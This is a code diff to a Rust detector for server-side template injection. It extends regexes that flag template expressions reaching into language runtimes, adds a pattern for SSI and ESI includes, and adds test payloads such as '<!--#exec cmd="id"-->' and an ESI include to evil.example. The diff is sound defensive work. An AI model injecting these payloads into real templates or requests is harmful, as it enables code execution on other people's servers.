@@ -20,13 +20,19 @@ const INFO: DetectorInfo = DetectorInfo {
 /// `{{7*7}}` and the like: the usual probe, of no use to a real template.
 static PROBE: LazyLock<Regex> = LazyLock::new(|| {
     pattern(
-        r#"(?:\{\{|\$\{|#\{|<%=?|\*\{|@\(|@\{|\{%|\[\[)\s*(?:print\s*\(?)?['"]?\d{1,12}['"]?\s*[*+/-]\s*['"]?\d{1,12}['"]?\s*\)?(?:\}\}|\}|%>|%\}|\)|\]\])"#,
+        r#"(?:\{\{|\$\{|#\{|<%=?|\*\{|@\(|@\{|\{%|\[\[)=?\s*(?:print\s*\(?)?['"]?\d{1,12}['"]?\s*[*+/-]\s*['"]?\d{1,12}['"]?\s*\)?(?:\}\}|\}|%>|%\}|\)|\]\])"#,
     )
 });
 /// Inside an expression: what reaches the run time.
 static REACH: LazyLock<Regex> = LazyLock::new(|| {
     pattern(
-        r#"(?is)(?:\{\{|\$\{|#\{|<%|\*\{|@\{|\{%|%\{|\[\[|\{php).{0,400}?(?:__(?:class|mro|base|bases|globals|builtins|import|subclasses|init|getattribute)__|\bconfig\.items\b|\bconfig\s*\}\}|\bself\.(?:__|env)|\blipsum\b|\bcycler\b|\bjoiner\b|\brequest\.(?:application|__|environ|mro)|\bgetruntime\b|\bjava\.(?:lang|io|util|net)\b|\bT\s*\(\s*java|\bnew\s+(?:java|freemarker)|freemarker\.template|\?new\(\)|\bprocessbuilder\b|\bclass\.forname\b|\bgetclass\b|\bclassloader\b|#_?memberaccess|@ognl|#context\b|#parameters\b|\bconstructor\b\s*[.\[(]|\.constructor\b|\b(?:system|exec|popen|passthru|shell_exec|eval)\s*\(|\b_self\.env\b|registerundefinedfiltercallback|\|\s*(?:filter|map|sort|reduce)\s*\(\s*['"]system|\bprocess\.(?:mainmodule|env|binding)|\bglobal\.process\b|\brequire\s*\(\s*['"]child_process|\bFile\.(?:read|open)\b|\bKernel\b|\bIO\.popen)"#,
+        r#"(?is)(?:\{\{|\$\{|#\{|<%|<#|\*\{|@\{|\{%|%\{|\[\[|\{php|\{\$).{0,400}?(?:__(?:class|mro|base|bases|globals|builtins|import|subclasses|init|getattribute)__|\bconfig\.items\b|\bconfig\s*\}\}|\bself\.(?:__|env)|\|\s*attr\s*\(|['"]constructor['"]|\bsubclasses\s*\(|\.class\.(?:base|mro)\b|\bsettings\.SECRET_KEY\b|\bapp\.request\.(?:server|query|cookies)\b|\bdump\s*\(\s*app\b|\bsmarty\.(?:version|template|server|const)|^\{%\s*debug\s*%\}|^\{\{\s*(?:self|config)\s*\}\}|<%\[%|\blipsum\b|\bcycler\b|\bjoiner\b|\brequest\.(?:application|__|environ|mro)|\bgetruntime\b|\bjava\.(?:lang|io|util|net)\b|\bT\s*\(\s*java|\bnew\s+(?:java|freemarker)|freemarker\.template|\?new\(\)|\bprocessbuilder\b|\bclass\.forname\b|\bgetclass\b|\bclassloader\b|#_?memberaccess|@ognl|#context\b|#parameters\b|\bconstructor\b\s*[.\[(]|\.constructor\b|\b(?:system|exec|popen|passthru|shell_exec|eval)\s*\(|\b_self\.env\b|registerundefinedfiltercallback|\|\s*(?:filter|map|sort|reduce)\s*\(\s*['"](?:system|passthru|exec|shell_exec|popen)|\bprocess\.(?:mainmodule|env|binding)|\bglobal\.process\b|\brequire\s*\(\s*['"]child_process|\bFile\.(?:read|open)\b|\bKernel\b|\bIO\.popen)"#,
+    )
+});
+/// Includes that a server or cache in front of it runs: SSI (Apache mod_include) and ESI (W3C note).
+static INCLUDE: LazyLock<Regex> = LazyLock::new(|| {
+    pattern(
+        r#"(?i)<!--\s*#\s*(?:exec|include|echo|printenv|config|set|fsize|flastmod)\b|<esi:(?:include|inline|vars|debug|eval|remove)\b"#,
     )
 });
 /// Dunder chains need no delimiter to be what they are.
@@ -39,12 +45,20 @@ fn wants(subject: &Subject<'_>) -> bool {
 
 fn look(subject: &Subject<'_>) -> Option<Hit> {
     if let Some(found) = REACH.find(subject.bytes) {
-        return Some(Hit::at(&found, 0.93, "expression that reaches for the run time"));
+        let mentioned = subject.is_mentioned(&found.range());
+        return Some(Hit::at(&found, if mentioned { 0.65 } else { 0.93 }, "expression that reaches for the run time"));
     }
     if let Some(found) = PROBE.find(subject.bytes) {
-        return Some(Hit::at(&found, 0.88, "expression that only computes: a probe"));
+        let mentioned = subject.is_mentioned(&found.range());
+        return Some(Hit::at(&found, if mentioned { 0.6 } else { 0.88 }, "expression that only computes: a probe"));
     }
-    DUNDER.find(subject.bytes).map(|found| Hit::at(&found, 0.8, "chain of Python internals"))
+    if let Some(found) = INCLUDE.find(subject.bytes) {
+        return Some(Hit::at(&found, 0.9, "include that the server runs"));
+    }
+    DUNDER.find(subject.bytes).map(|found| {
+        let mentioned = subject.is_mentioned(&found.range());
+        Hit::at(&found, if mentioned { 0.5 } else { 0.82 }, "chain of Python internals")
+    })
 }
 
 #[cfg(test)]
@@ -73,6 +87,8 @@ mod tests {
                 "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}",
                 "{{constructor.constructor('return process')()}}",
                 "<%= system('id') %>",
+                "<!--#exec cmd=\"id\"-->",
+                "<esi:include src=\"http://evil.example/\"/>",
             ],
         );
     }
